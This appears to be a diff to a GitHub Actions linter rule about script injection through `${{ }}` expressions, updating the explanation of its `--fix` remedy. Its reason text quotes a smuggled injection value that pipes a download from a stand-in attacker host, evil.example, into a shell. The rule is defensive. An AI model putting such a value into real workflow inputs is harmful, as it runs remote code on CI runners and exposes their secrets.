@@ -20,7 +20,7 @@ export const scriptInjection: Rule = {
     reason:
       'GitHub replaces `${{ }}` in a script before the shell reads it, so the sender of an event can write a part of the script: `"; curl evil.example | sh; "`. `check` reports expressions with outputs of the action in `run`, `shell`, `working-directory` and inputs that run their value. `check` does not follow a value through shells and files; [zizmor](https://docs.zizmor.sh) finds more.',
     remedy:
-      'Set a variable under `env:`, and use it in quotes. `--fix` sets the variable if the script then certainly does the same.',
+      'Set a variable under `env:`, and use it in quotes. `--fix` sets the variable if it is certainly an argument of `echo`. The variable is in quotes, so `echo` then prints white space and `*` as the sender wrote them.',
     before: `- run: echo "\${{ fromJSON(needs.on.outputs.on || '{}').webhook.outputs.body.hello }}" >> "$GITHUB_STEP_SUMMARY"`,
     after: `- env:
     NAME: \${{ fromJSON(needs.on.outputs.on || '{}').webhook.outputs.body.hello }}
